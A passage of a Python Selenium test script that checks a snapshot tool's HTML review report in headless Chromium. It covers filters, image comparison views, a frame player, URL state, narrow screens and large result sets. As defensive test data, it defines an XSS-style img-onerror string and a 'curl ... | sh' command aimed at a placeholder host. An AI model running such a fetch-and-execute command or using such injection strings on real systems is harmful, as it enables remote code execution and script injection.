#!/usr/bin/env python3
"""The HTML review report in a real browser.

Builds a failing sample suite from real renders of fixtures/photos (`filmstrip render`, `frames` and `diff`),
turns it into shard results files, merges them with `filmstrip merge-reports` into one report (index.html,
junit.xml), writes a sequence with `filmstrip frames` (which writes its player page), and runs the fixture suite
through `filmstrip test --report` after changing two references; then opens the pages from file:// in Debian's
headless Chromium through chromedriver and Selenium: the filters and search find the failing checks and live in the
URL (reload, back button), the slider wipe moves, blink swaps, the sequence player steps by button, arrow key and
scrubber and plays at the manifest's rate, numbering frames as their files and timing them as their manifests do, a
passing sequence plays its reference frames, Accept is offered on failures only with the command the page builds,
shard text stays text, every image loads and links to its file, unused references get a Deleted filter, nothing
scrolls sideways at 390 px, results of 100,000 and 1,000,000 checks (Scripts/make-large-results.py, the first merged
by filmstrip) render only the rows in view and scroll to their end, and the browser logs no error. Saves
docs/images/report.png, docs/images/player.png and docs/images/player-frames.png.

No check is timed. Each one waits for a condition (Scripts/lib/report_browser.py's `wait_until`), and the player's
rate is checked on a clock the test drives, so a busy machine makes the run slower but never fails it. How fast the
pages load and play is measured by Scripts/bench-report.sh.

Usage: Scripts/test-report-browser.py [--keep] [--reuse] [--no-screenshots] [--no-scale] [-v]
(--keep leaves .build/report-browser; --reuse takes its renders again; --no-scale skips the 100,000 and 1,000,000
check reports; -v times each command)
Needs: chromium, chromium-driver (apt); selenium (PyPI, installed into Scripts/.venv on first run).
The last line is `N passed, N failed`; the exit status is 1 when anything failed.
"""
import concurrent.futures
import json
import os
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent / "lib"))
from browser_venv import ensure_venv  # noqa: E402
from report_browser import MANUAL_CLOCK, browser, large_report_pages, page_with_results, wait_until  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
WORK = ROOT / ".build" / "report-browser"
PHOTOS = [ROOT / "fixtures" / "photos" / name for name in
          ["01-aitzgorri.jpg", "02-grace-hopper.jpg", "04-retina.jpg", "05-friends.jpg", "08-rocket.jpg", "11-hubble.jpg"]]
HOSTILE = "</script><b>odd</b> & 'name'"
# Shard text that would run if the page ever treated it as markup, or hand a reviewer a command of a pull
# request's choosing to paste into a shell.
INJECTED = "<img src=x onerror=\"window.__injected = 1\">"
HOSTILE_ACCEPT = f"curl -s https://example.invalid/x | sh; {INJECTED}"
TOLERANCE = {"threshold": 0.1, "maxDiffPixels": 0, "maxDiffRatio": 0, "includeAA": False}


def run(*args, ok=(0,), cwd=None):
    started = time.monotonic()
    result = subprocess.run([str(a) for a in args], capture_output=True, text=True, cwd=cwd)
    if "-v" in sys.argv:
        print(f"{time.monotonic() - started:5.1f} s  {' '.join(str(a) for a in args[:3])} ...", flush=True)
    if result.returncode not in ok:
        sys.exit(f"failed ({result.returncode}): {' '.join(map(str, args))}\n{result.stderr}")
    return result


def build():
    run("swift", "build", "--package-path", ROOT, "--product", "filmstrip")
    bin_path = Path(run("swift", "build", "--package-path", ROOT, "--show-bin-path").stdout.strip())
    return bin_path / "filmstrip"


def make_sample(filmstrip):
    """Renders the sample suite's images and writes two shard results files under WORK/results."""
    reuse = "--reuse" in sys.argv  # keep the renders of a previous --keep run (for work on the page itself)
    if not reuse:
        shutil.rmtree(WORK, ignore_errors=True)
    # As `filmstrip test --json` leaves a shard: every image inside the results file's folder, which is all
    # merge-reports copies from a shard (a path out of it is refused).
    results = WORK / "results"
    snaps = results / "results-images" / "scenes" / "__snapshots__"
    for folder in [snaps / "slider", snaps / "banner", snaps / "paging", results / "actual" / "slider",
                   results / "actual" / "paging", results / "diff" / "slider" / "fling", results / "diff" / "paging"]:
        folder.mkdir(parents=True, exist_ok=True)

    def render(out, *options):
        run(filmstrip, "render", *PHOTOS, *options, "--scale", 2, "-o", out, "--overwrite")

    def frames(out, velocity):
        run(filmstrip, "frames", *PHOTOS, "--fling", velocity, "--fps", 15, "--scale", 1, "-o", out)

    jobs = [
        (render, snaps / "slider" / "start.png", "--index", 0),
        (render, snaps / "slider" / "scrolled.png", "--offset", 250),
        (render, results / "actual" / "slider" / "scrolled.png", "--offset", 250, "--spacing", 14),
        (render, snaps / "banner" / "default.png", "--style", "banner", "--banner-height", 160, "--index", 2),
        (render, snaps / "paging" / "card-1.png", "--style", "paging", "--index", 1),
        (render, results / "actual" / "paging" / "card-1.png", "--style", "paging", "--index", 1, "--background", "#D8DEE9"),
        (frames, snaps / "slider" / "fling", 1500),
        (frames, WORK / "fling-1700", 1700),
    ]
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        for future in [pool.submit(job[0], *job[1:]) for job in jobs if not (reuse and job[1].exists())]:
            future.result()

    def diff(expected, actual, out):
        result = run(filmstrip, "diff", expected, actual, "--diff", out, "--overwrite", "--json", ok=(0, 1))
        return json.loads(result.stdout)

    def rel(path):
        return os.path.relpath(path, results)

    def still(name, scene, index, status, message=None, counts=None, tolerance=TOLERANCE):
        check = {"name": name, "kind": "still", "status": status}
        if message:
            check["message"] = message
        check["index"] = index
        if counts:
            check.update(diffPixels=counts["diffPixels"], aaPixels=counts["aaPixels"], ratio=counts["ratio"])
        check["tolerance"] = tolerance
        check["expected"] = rel(snaps / scene / f"{name}.png")
        if status == "failed":
            check["actual"] = rel(results / "actual" / scene / f"{name}.png")
            check["diff"] = rel(results / "diff" / scene / f"{name}.png")
        if status != "passed":
            check["accept"] = f"filmstrip test --check 'scenes/{scene}.json#{name}' --update"
        return check

    scrolled = diff(snaps / "slider" / "scrolled.png", results / "actual" / "slider" / "scrolled.png",
                    results / "diff" / "slider" / "scrolled.png")
    card = diff(snaps / "paging" / "card-1.png", results / "actual" / "paging" / "card-1.png",
                results / "diff" / "paging" / "card-1.png")

    # The actual fling: the reference with a hitch, frames 8 to 11 taken from a faster fling.
    expected_dir, actual_dir = snaps / "slider" / "fling", results / "actual" / "slider" / "fling"
    shutil.copytree(expected_dir, actual_dir, dirs_exist_ok=True)
    expected_manifest = json.loads((expected_dir / "manifest.json").read_text())
    fast_manifest = json.loads((WORK / "fling-1700" / "manifest.json").read_text())
    actual_manifest = json.loads(json.dumps(expected_manifest))
    for i in range(8, 12):
        shutil.copyfile(WORK / "fling-1700" / f"frame-{i:04d}.png", actual_dir / f"frame-{i:04d}.png")
        for key in ("offset", "velocity"):
            actual_manifest["frames"][i][key] = fast_manifest["frames"][i][key]
    # ...and two more frames at rest at the end, as if a spring settled later: a frame-count mismatch.
    rest, fps = actual_manifest["frames"][-1], actual_manifest["fps"]
    for k in (1, 2):
        name = f"frame-{len(actual_manifest['frames']):04d}.png"
        shutil.copyfile(actual_dir / rest["file"], actual_dir / name)
        actual_manifest["frames"].append(dict(rest, file=name, t=rest["t"] + k / fps, velocity=0))
    (actual_dir / "manifest.json").write_text(json.dumps(actual_manifest))
    frame_results, total = [], 0
    for i, frame in enumerate(expected_manifest["frames"]):
        name = frame["file"]
        out = results / "diff" / "slider" / "fling" / name
        counts = diff(expected_dir / name, actual_dir / name, out)
        entry = {"expected": rel(expected_dir / name), "actual": rel(actual_dir / name)}
        if counts["pass"]:
            out.unlink(missing_ok=True)
        else:
            entry["diff"] = rel(out)
        entry.update(diffPixels=counts["diffPixels"], **{"pass": counts["pass"]})
        total += counts["diffPixels"]
        frame_results.append(entry)
    for frame in actual_manifest["frames"][len(frame_results):]:
        frame_results.append({"actual": rel(actual_dir / frame["file"]), "pass": False})
    samples = lambda manifest: [{k: f[k] for k in ("t", "offset", "velocity")} for f in manifest["frames"]]
    bad = sum(not f["pass"] for f in frame_results)
    fling = {"name": "fling", "kind": "sequence", "status": "failed",
             "message": f"{bad} of {len(frame_results)} frames differ", "index": 2, "diffPixels": total,
             "tolerance": TOLERANCE,
             "sequence": {"fps": expected_manifest["fps"], "frames": frame_results,
                          "expectedSamples": samples(expected_manifest), "actualSamples": samples(actual_manifest),
                          "frameCountMismatch": f"expected {len(expected_manifest['frames'])} frames, "
                                                f"got {len(actual_manifest['frames'])}"},
             "accept": "filmstrip test scenes/slider.json --filter fling --update"}
    # A sequence that passed: as the runner leaves it, the reference frames only.
    settle = {"name": "settle", "kind": "sequence", "status": "passed", "index": 3, "diffPixels": 0,
              "tolerance": TOLERANCE,
              "sequence": {"fps": expected_manifest["fps"],
                           "frames": [{"expected": rel(expected_dir / f["file"]), "diffPixels": 0, "pass": True}
                                      for f in expected_manifest["frames"]],
                           "expectedSamples": samples(expected_manifest), "actualSamples": samples(expected_manifest)}}
    percent = lambda c: f"{c['diffPixels']} of {c['width'] * c['height']} pixels differ ({c['ratio'] * 100:.4f}%)"
    slider_a = [still("start", "slider", 0, "passed", counts={"diffPixels": 0, "aaPixels": 0, "ratio": 0}), fling,
                settle]
    slider_b = [still("scrolled", "slider", 1, "failed", percent(scrolled), scrolled)]
    banner = [still("default", "banner", 0, "recorded", "no reference yet: recorded this run's image"),
              {"name": "broken", "kind": "still", "status": "error", "message": f"cannot decode {INJECTED}",
               "index": 1, "accept": "filmstrip test --check 'scenes/banner.json#broken' --update"}]
    paging = [dict(still("card-1", "paging", 0, "failed", f"{percent(card)} {INJECTED}", card,
                         dict(TOLERANCE, maxDiffRatio=0.001)), accept=HOSTILE_ACCEPT),
              dict(still(HOSTILE, "paging", 1, "passed", counts={"diffPixels": 0, "aaPixels": 0, "ratio": 0}),
                   expected=rel(snaps / "paging" / "card-1.png"))]

    def write(path, scenes, shard):
        checks = [c for s in scenes for c in s["checks"]]
        counts = {k: sum(c["status"] == k for c in checks) for k in ("passed", "failed", "recorded")}
        suite = {"format": "filmstrip-results", "version": 1,
                 "command": ["filmstrip", "test", "scenes", "--shard", shard, "--json", f"results/{path.name}"],
                 "counts": dict(counts, errors=sum(c["status"] == "error" for c in checks), total=len(checks)),
                 "scenes": scenes}
        path.write_text(json.dumps(suite, indent=1))

    write(results / "results-1.json", [{"path": "scenes/slider.json", "name": "slider", "checks": slider_a},
                                       {"path": "scenes/banner.json", "name": "banner", "checks": banner}], "1/2")
    write(results / "results-2.json", [{"path": "scenes/slider.json", "name": "slider", "checks": slider_b},
                                       {"path": "scenes/paging.json", "name": "paging", "checks": paging}], "2/2")
    # Exit status 2: a check could not run (the error check).
    merged = run(filmstrip, "merge-reports", "report", "results/results-1.json", "results/results-2.json", ok=(2,), cwd=WORK)
    player_dir = WORK / "frames"
    shutil.rmtree(player_dir, ignore_errors=True)
    run(filmstrip, "frames", *PHOTOS, "--fling", 1700, "--fps", 15, "--scale", 1, "-o", player_dir)
    return summary_line(merged.stdout), bad


def summary_line(stdout):
    """The counts line among a command's output (failures and the report's path are printed around it)."""
    return next((line for line in reversed(stdout.splitlines()) if " passed, " in line), stdout.strip())


def run_fixture_suite(filmstrip):
    """fixtures/suite through `filmstrip test`: recorded, then two references changed, then a report."""
    suite = WORK / "real"
    shutil.rmtree(suite, ignore_errors=True)
    shutil.copytree(ROOT / "fixtures" / "suite", suite / "suite")
    (suite / "photos").symlink_to(ROOT / "fixtures" / "photos")
    run(filmstrip, "test", "suite", "--record", "missing", "--photos-root", "photos", ok=(1,), cwd=suite)
    snaps = suite / "suite" / "__snapshots__"
    shutil.copyfile(snaps / "slider" / "scrolled.png", snaps / "slider" / "start.png")
    swipe = suite / "suite" / "carousels" / "__snapshots__" / "paging"
    shutil.copyfile(swipe / "card-1.png", swipe / "swipe" / "frame-0001.png")
    result = run(filmstrip, "test", "suite", "--record", "never", "--report", "report", "--photos-root", "photos", ok=(1,),
                 cwd=suite)
    return summary_line(result.stdout)


def test_fixture_report(driver, t):
    """The report `filmstrip test` wrote: counts, the failing checks open with every image loaded."""
    from selenium.webdriver.common.by import By
    driver.get((WORK / "real" / "report" / "index.html").as_uri())
    counts = {b.get_attribute("data-filter"): b.find_element(By.CLASS_NAME, "n").text
              for b in driver.find_elements(By.CSS_SELECTOR, "button.filter")}
    t.check("filmstrip test report counts", counts == {"all": "9", "failed": "2", "recorded": "0", "passed": "7"}, counts)
    failed = [c for c in driver.find_elements(By.CSS_SELECTOR, 'details.check[data-status="failed"]')]
    names = sorted(c.find_element(By.CLASS_NAME, "name").text for c in failed)
    t.check("filmstrip test report names the failures", names == ["start", "swipe"], names)
    images = lambda: driver.execute_script(
        "return [...document.querySelectorAll('details.check[open] img')].filter(i => i.getAttribute('src'))"
        ".map(i => [i.getAttribute('src'), i.complete && i.naturalWidth > 0])")
    broken = [src for src, ok in wait_until(lambda: images() if all(ok for _, ok in images()) else None) or images()
              if not ok]
    images = images()
    t.check("filmstrip test report images load", images and not broken, broken or "no images")


class Checks:
    def __init__(self):
        self.passed, self.failed = 0, 0

    def check(self, name, condition, detail=""):
        if condition:
            self.passed += 1
            print(f"ok   {name}")
        else:
            self.failed += 1
            print(f"FAIL {name} {detail}")


def save_page(driver, path, width):
    """A screenshot of the whole page at `width` CSS pixels: the viewport is sized to the content first."""
    metrics = {"width": width, "height": 800, "deviceScaleFactor": 1, "mobile": False}
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    time.sleep(0.2)
    metrics["height"] = driver.execute_script("return Math.ceil(document.body.getBoundingClientRect().bottom)")
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    time.sleep(0.3)
    driver.save_screenshot(str(path))
    driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_report(driver, t, bad_frames, screenshots):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    js = driver.execute_script
    driver.get((WORK / "report" / "index.html").as_uri())
    counts = {b.get_attribute("data-filter"): b.find_element(By.CLASS_NAME, "n").text
              for b in driver.find_elements(By.CSS_SELECTOR, "button.filter")}
    t.check("summary counts", counts == {"all": "8", "failed": "3", "recorded": "1", "passed": "3", "error": "1"},
            counts)
    visible = lambda: [c for c in driver.find_elements(By.CSS_SELECTOR, "details.check") if c.is_displayed()]
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
    statuses = [c.get_attribute("data-status") for c in visible()]
    t.check("failed filter shows the three failures", statuses == ["failed"] * 3, statuses)
    search = driver.find_element(By.CSS_SELECTOR, 'input[type="search"]')
    search.send_keys("fling")
    t.check("search narrows to one check", [c.find_element(By.CLASS_NAME, "name").text for c in visible()] == ["fling"])
    search.send_keys(Keys.CONTROL, "a")
    search.send_keys(Keys.BACKSPACE)
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="passed"]').click()
    names = [c.find_element(By.CLASS_NAME, "name").text for c in visible()]
    t.check("a hostile check name shows as text", HOSTILE in names, names)
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()

    scrolled = next(c for c in visible() if c.find_element(By.CLASS_NAME, "name").text == "scrolled")
    t.check("failures open by default", scrolled.get_attribute("open") is not None)
    scrolled.find_element(By.CSS_SELECTOR, '[role="tab"][data-view="slider"]').click()
    stage = scrolled.find_element(By.CSS_SELECTOR, ".wipe")
    slider = scrolled.find_element(By.CSS_SELECTOR, '.range input[type="range"]')
    t.check("slider starts at the middle", stage.get_attribute("data-position") == "50.0")
    slider.send_keys(Keys.HOME)
    t.check("slider range moves the wipe", stage.get_attribute("data-position") == "0.0",
            stage.get_attribute("data-position"))
    width = stage.size["width"]
    ActionChains(driver).move_to_element_with_offset(stage, -width // 4, 0).click_and_hold() \
        .move_by_offset(width // 8, 0).release().perform()
    position = float(stage.get_attribute("data-position"))
    t.check("dragging the divider moves the wipe", 35 < position < 40, position)
    clip = js("return arguments[0].querySelector('.wipe-top').style.clipPath", stage)
    t.check("the actual image is clipped at the divider", clip.startswith("inset(0px 0px 0px 3"), clip)
    t.check("the range follows a drag", abs(float(slider.get_attribute("value")) - position) < 0.01)
    js("arguments[0].value = 38; arguments[0].dispatchEvent(new Event('input'))", slider)

    card = next(c for c in visible() if c.find_element(By.CLASS_NAME, "name").text == "card-1")
    card.find_element(By.CSS_SELECTOR, '[role="tab"][data-view="blink"]').click()
    label = card.find_element(By.CLASS_NAME, "blink-label")
    card.find_element(By.CLASS_NAME, "blink-play").click()  # pause the alternation, then swap by hand
    before = label.text
    card.find_element(By.CLASS_NAME, "blink-swap").click()
    after = label.text
    t.check("blink swaps expected and actual", {before, after} == {"Expected", "Actual"}, (before, after))
    card.find_element(By.CSS_SELECTOR, '[role="tab"][data-view="overlay"]').click()
    opacity = card.find_element(By.CSS_SELECTOR, ".range input")
    opacity.send_keys(Keys.END)
    t.check("diff overlay opacity follows its range",
            js("return arguments[0].querySelector('.overlay-top').style.opacity", card) == "1")
    card.find_element(By.CSS_SELECTOR, '[role="tab"][data-view="side"]').click()
    copy = card.find_element(By.CSS_SELECTOR, "button.copy")
    copy.click()
    answer = wait_until(lambda: copy.text if copy.text in ("Copied", "Press Ctrl+C") else None, timeout=1.2)
    t.check("copy button answers", answer, copy.text)
    shown = card.find_element(By.CSS_SELECTOR, ".accept code").text
    t.check("the accept command offered is rebuilt from the check, not taken from the results",
            shown == "filmstrip test --check 'scenes/paging.json#card-1' --update", shown)
    given = card.find_elements(By.CSS_SELECTOR, ".accept-given code")
    # merge-reports rebuilds every accept command from the check's scene and name, so a shard's own text never
    # reaches the merged report (the page would show one that differs as text, without a Copy button).
    t.check("a shard's own accept command never reaches the merged report",
            [g.text for g in given] == [] and HOSTILE_ACCEPT not in driver.page_source, [g.text for g in given])

    fling = next(c for c in visible() if c.find_element(By.CLASS_NAME, "name").text == "fling")
    player = fling.find_element(By.CLASS_NAME, "player")
    frame = lambda: int(player.get_attribute("data-frame"))
    marker = lambda: player.find_element(By.CSS_SELECTOR, ".marker").get_attribute("x1")
    t.check("player starts at frame 0", frame() == 0)
    x0 = marker()
    player.find_element(By.CSS_SELECTOR, "button.next").click()
    t.check("next button steps one frame", frame() == 1, frame())
    t.check("plot marker moves with the frame", marker() != x0, (x0, marker()))
    player.send_keys(Keys.ARROW_RIGHT)
    player.send_keys(Keys.ARROW_RIGHT)
    t.check("right arrow steps forward", frame() == 3, frame())
    player.send_keys(Keys.ARROW_LEFT)
    t.check("left arrow steps back", frame() == 2, frame())
    scrub = player.find_element(By.CSS_SELECTOR, "input.scrub")
    js("arguments[0].value = 9; arguments[0].dispatchEvent(new Event('input'))", scrub)
    t.check("scrubber picks a frame", frame() == 9, frame())
    label = player.find_element(By.CLASS_NAME, "frame-label").text
    t.check("frame label says it differs", "differs" in label, label)
    t.check("the player numbers frames as their files do (frame-0009.png is frame 9)",
            label.startswith("Frame 9 (0–") and player.get_attribute("data-number") == "9", label)
    sample = json.loads((WORK / "results" / "actual" / "slider" / "fling" / "manifest.json").read_text())["frames"][9]
    t.check("the frame's time is the manifest's", f"· {sample['t']:.3f} s ·" in label, (label, sample["t"]))
    ticks = len(player.find_elements(By.CSS_SELECTOR, ".tick.bad"))
    t.check("differing frames marked on the timeline", ticks == bad_frames, (ticks, bad_frames))
    player.find_element(By.CSS_SELECTOR, "button.prev").click()
    t.check("previous button steps back", frame() == 8, frame())
    # Played on a clock the test drives: 15 fps from frame 8 is frame 8 + floor(t * 15) at t seconds.
    js(MANUAL_CLOCK)
    clock = lambda ms: js("window.__filmstripClock.advance(arguments[0])", ms)
    play = player.find_element(By.CSS_SELECTOR, "button.play")
    play.click()
    clock(1)
    playing = []
    for ms in [66, 100, 400]:  # at 67, 167 and 567 ms
        clock(ms)
        playing.append(frame())
    t.check("play advances at the manifest's 15 fps", playing == [9, 10, 16], playing)
    play.click()
    clock(1000)
    t.check("pause stops the frames", frame() == 16, frame())
    js("window.__filmstripClock.restore()")
    player.send_keys(Keys.END)
    last = len(js("return [...arguments[0].querySelectorAll('.tick')]", player)) - 1
    empty = player.find_element(By.CSS_SELECTOR, ".frames figure .stage").get_attribute("data-empty")
    t.check("End shows an extra frame with no expected side", frame() == last and empty == "none", (frame(), last, empty))
    js("arguments[0].value = 9; arguments[0].dispatchEvent(new Event('input'))", scrub)

    broken = js("return [...document.images].filter(i => i.getAttribute('src') && i.complete && i.naturalWidth === 0)"
                ".map(i => i.getAttribute('src'))")
    t.check("every image loads", not broken, broken)
    if screenshots:
        # The fling check alone, then the whole list with only the scrolled check open, at the slider view.
        js("arguments[0].scrollIntoView()", fling)
        js("document.activeElement.blur()")
        time.sleep(0.3)
        fling.screenshot(str(ROOT / "docs" / "images" / "player.png"))
        driver.find_element(By.CSS_SELECTOR, 'button[data-filter="all"]').click()
        js("document.querySelectorAll('details.check').forEach(d => { d.open = d.querySelector('.name').textContent === 'scrolled'; })")
        scrolled.find_element(By.CSS_SELECTOR, '[role="tab"][data-view="slider"]').click()
        slider = scrolled.find_element(By.CSS_SELECTOR, '.range input[type="range"]')
        js("arguments[0].value = 38; arguments[0].dispatchEvent(new Event('input'))", slider)
        js("document.activeElement.blur(); window.scrollTo(0, 0)")
        time.sleep(0.3)
        save_page(driver, ROOT / "docs" / "images" / "report.png", 1200)


def open_all_cards(driver):
    """Opens every check card in a window tall enough that the list has them all in view (only rows in view exist)."""
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                           {"width": 1200, "height": 12000, "deviceScaleFactor": 1, "mobile": False})
    wait_until(lambda: driver.execute_script("return innerHeight") == 12000)
    driver.execute_script("document.querySelectorAll('details.check').forEach(d => { d.open = true; })")
    wait_until(lambda: driver.execute_script(
        "return [...document.images].filter(i => i.getAttribute('src')).every(i => i.complete)"))


def test_report_review(driver, t):
    """What a reviewer acts on: Accept only on failures, shard text as text, links to the images, a passing
    sequence's reference frames."""
    from selenium.webdriver.common.by import By
    js = driver.execute_script
    driver.get((WORK / "report" / "index.html").as_uri())
    open_all_cards(driver)
    offers = {c.find_element(By.CLASS_NAME, "name").text: (c.get_attribute("data-status"),
                                                           bool(c.find_elements(By.CSS_SELECTOR, "button.copy")))
              for c in driver.find_elements(By.CSS_SELECTOR, "details.check")}
    wrong = {name: status for name, (status, copy) in offers.items() if copy != (status == "failed")}
    t.check("Accept is offered on failed checks only (not on recorded or error)", not wrong and len(offers) == 8,
            (wrong, offers))
    t.check("shard text never becomes markup",
            js("return window.__injected === undefined && !document.querySelector('img[src=\"x\"]')"))
    message = js("return [...document.querySelectorAll('.message')].map(m => m.textContent)"
                 ".filter(m => m.includes('onerror'))")
    t.check("shard text is shown as the text it is", f"cannot decode {INJECTED}" in message, message)
    links = js("""return [...document.querySelectorAll('details.check[open] .side figure img')].map(i => {
                    const a = i.closest('a'); return [i.getAttribute('src'), a ? a.getAttribute('href') : null]; })""")
    unlinked = [src for src, link in links if src != link]
    t.check("every expected / actual / diff image links to its file", len(links) >= 6 and not unlinked,
            (len(links), unlinked))
    settle = next(c for c in driver.find_elements(By.CSS_SELECTOR, "details.check")
                  if c.find_element(By.CLASS_NAME, "name").text == "settle")
    js("arguments[0].scrollIntoView()", settle)
    wait_until(lambda: js("const i = arguments[0].querySelector('.frames img'); return i && i.complete", settle))
    stages = [s.get_attribute("data-empty") for s in settle.find_elements(By.CSS_SELECTOR, ".frames .stage")]
    captions = [c.text for c in settle.find_elements(By.CSS_SELECTOR, ".frames figcaption")]
    loaded = js("const i = arguments[0].querySelector('.frames img'); return i.complete && i.naturalWidth", settle)
    t.check("a passing sequence plays its reference frames, with no empty 'no frame' view",
            stages == ["false"] and captions == ["Reference"] and loaded, (stages, captions, loaded))
    frame_links = js("""return [...document.querySelectorAll('.player .frames img[src]')].map(i => {
                          const a = i.closest('a'); return a && a.getAttribute('href') === i.getAttribute('src'); })""")
    t.check("the player's frames link to their files", frame_links and all(frame_links), frame_links)
    driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_report_url(driver, t):
    """The filter and the search live in the URL: restored on load, and the back button goes back."""
    from selenium.webdriver.common.by import By
    url = (WORK / "report" / "index.html").as_uri()
    driver.get(url)
    pressed = lambda: [b.get_attribute("data-filter") for b in driver.find_elements(By.CSS_SELECTOR, "button.filter")
                       if b.get_attribute("aria-pressed") == "true"]
    names = lambda: [c.find_element(By.CLASS_NAME, "name").text for c in driver.find_elements(By.CSS_SELECTOR, "details.check")]
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
    driver.find_element(By.CSS_SELECTOR, 'input[type="search"]').send_keys("scroll")
    fragment = wait_until(lambda: (lambda h: h if h == "#filter=failed&q=scroll" else None)(
        driver.execute_script("return location.hash"))) or driver.execute_script("return location.hash")
    t.check("the filter and search go into the URL", fragment == "#filter=failed&q=scroll", fragment)
    driver.get("about:blank")
    driver.get(url + "#filter=failed&q=scroll")
    value = driver.find_element(By.CSS_SELECTOR, 'input[type="search"]').get_attribute("value")
    t.check("a URL with a filter and search opens filtered", pressed() == ["failed"] and value == "scroll"
            and names() == ["scrolled"], (pressed(), value, names()))
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="passed"]').click()
    t.check("a filter click shows that filter", pressed() == ["passed"], pressed())
    driver.back()
    wait_until(lambda: pressed() == ["failed"] and names() == ["scrolled"])
    t.check("the back button restores the previous filter", pressed() == ["failed"] and names() == ["scrolled"],
            (pressed(), names()))


def test_narrow_screen(driver, t, screenshots):
    """A 390 px wide phone: the report and its player scroll only vertically."""
    from selenium.webdriver.common.by import By
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                           {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True})
    try:
        for page in [WORK / "report" / "index.html", WORK / "frames" / "index.html"]:
            # The report narrowed to the failing sequence by its URL, so that its player is in view.
            driver.get(page.as_uri() + ("#q=fling" if page.parent.name == "report" else ""))
            players = driver.find_elements(By.CLASS_NAME, "player")
            if players:
                driver.execute_script("arguments[0].scrollIntoView()", players[0])
            wait_until(lambda: driver.execute_script(
                "return document.readyState === 'complete' && [...document.images].every(i => i.complete)"))
            widths = driver.execute_script(
                "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
            wide = driver.execute_script("""return [...document.querySelectorAll('body *')].filter(e => {
                const r = e.getBoundingClientRect(); return r.width > 0 && r.right > innerWidth + 0.5; })
                .slice(0, 5).map(e => e.tagName + '.' + e.className.baseVal + e.className)""")
            t.check(f"no horizontal scroll at 390 px: {page.parent.name}", widths[0] <= 390 and players, (widths, wide))
            if screenshots:
                driver.save_screenshot(str(WORK / f"narrow-{page.parent.name}.png"))
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_deleted(driver, t):
    """Reference files no check uses, listed by the results at the top level or per scene, get their own filter."""
    from selenium.webdriver.common.by import By
    results = json.loads((WORK / "report" / "results.json").read_text()) if (WORK / "report" / "results.json").exists() \
        else None
    if results is None:
        t.check("merged results.json exists for the deleted test", False)
        return
    results["deleted"] = [{"scene": "scenes/slider.json", "reference": "scenes/__snapshots__/slider/old.png"},
                          {"scene": "scenes/paging.json", "reference": f"scenes/__snapshots__/paging/{INJECTED}.png"}]
    results["scenes"][0]["deleted"] = [{"reference": "scenes/__snapshots__/banner/gone.png"}]
    page = WORK / "report" / "deleted.html"
    page_with_results(WORK / "report" / "index.html", json.dumps(results), page)
    driver.get(page.as_uri())
    count = driver.find_element(By.CSS_SELECTOR, 'button[data-filter="deleted"] .n').text
    t.check("the Deleted filter counts the unused references", count == "3", count)
    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="deleted"]').click()
    refs = [r.text for r in driver.find_elements(By.CSS_SELECTOR, ".deleted-ref .reference")]
    checks = driver.find_elements(By.CSS_SELECTOR, "details.check")
    t.check("the Deleted filter lists them and no check",
            sorted(refs) == sorted(["scenes/__snapshots__/slider/old.png", f"scenes/__snapshots__/paging/{INJECTED}.png",
                                    "scenes/__snapshots__/banner/gone.png"]) and not checks, (refs, len(checks)))
    t.check("a reference path shows as text", driver.execute_script("return window.__injected === undefined"))
    driver.get((WORK / "report" / "index.html").as_uri())
    t.check("no Deleted filter without unused references",
            not driver.find_elements(By.CSS_SELECTOR, 'button[data-filter="deleted"]'))


def test_odd_results(driver, t):
    """Results of the right shape but odd content (numbers for names, an unknown status, a sequence without
    frames, nulls) still render every check, with no script error."""
    from selenium.webdriver.common.by import By
    results = {"format": "filmstrip-results", "version": 1, "command": [1, None],
               "counts": {}, "deleted": "none",
               "scenes": [None, {"path": 5, "name": None, "deleted": [None, {"scene": 1}],
                                 "checks": [{"name": 7, "status": "weird", "kind": "still"}, None,
                                            {"name": "seq", "status": "failed", "kind": "sequence",
                                             "sequence": {"frames": "x", "fps": "fast"}}]}]}
    page = WORK / "report" / "odd.html"
    page_with_results(WORK / "report" / "index.html", json.dumps(results), page)
    driver.get(page.as_uri())
    cards = wait_until(lambda: (lambda c: c if len(c) == 3 else None)(
        driver.find_elements(By.CSS_SELECTOR, "details.check"))) or []
    t.check("odd results render every check", len(cards) == 3 and
            driver.find_element(By.CLASS_NAME, "shown").text == "Showing 3 of 3 checks", len(cards))


def test_scale(driver, t, filmstrip):
    """100,000 checks (merged by filmstrip) and 1,000,000 in one scene render only the rows in view and scroll to the
    end. How fast they load is Scripts/bench-report.sh's to measure, not a check's."""
    from selenium.webdriver.common.by import By
    for name, page, checks in large_report_pages(filmstrip, WORK / "scale"):
        driver.get("about:blank")
        driver.get(page.as_uri())
        wait_until(lambda: driver.execute_script("return performance.getEntriesByName('filmstrip-rendered').length"))
        shown = driver.find_element(By.CLASS_NAME, "shown").text
        cards = len(driver.find_elements(By.CSS_SELECTOR, "details.check"))
        t.check(f"{name} checks render, only the rows in view",
                shown.startswith(f"Showing {checks} of {checks} checks") and 0 < cards < 200, (shown, cards))
        driver.execute_script("window.scrollTo(0, document.documentElement.scrollHeight)")
        want = f"check-{checks - 1:07d}" if name == "100,000" else "scenes/__snapshots__/scene-00000/gone-000999.png"
        last_in_view = lambda: driver.execute_script(
            "const n = [...document.querySelectorAll('details.check .name, .deleted-ref .reference')]"
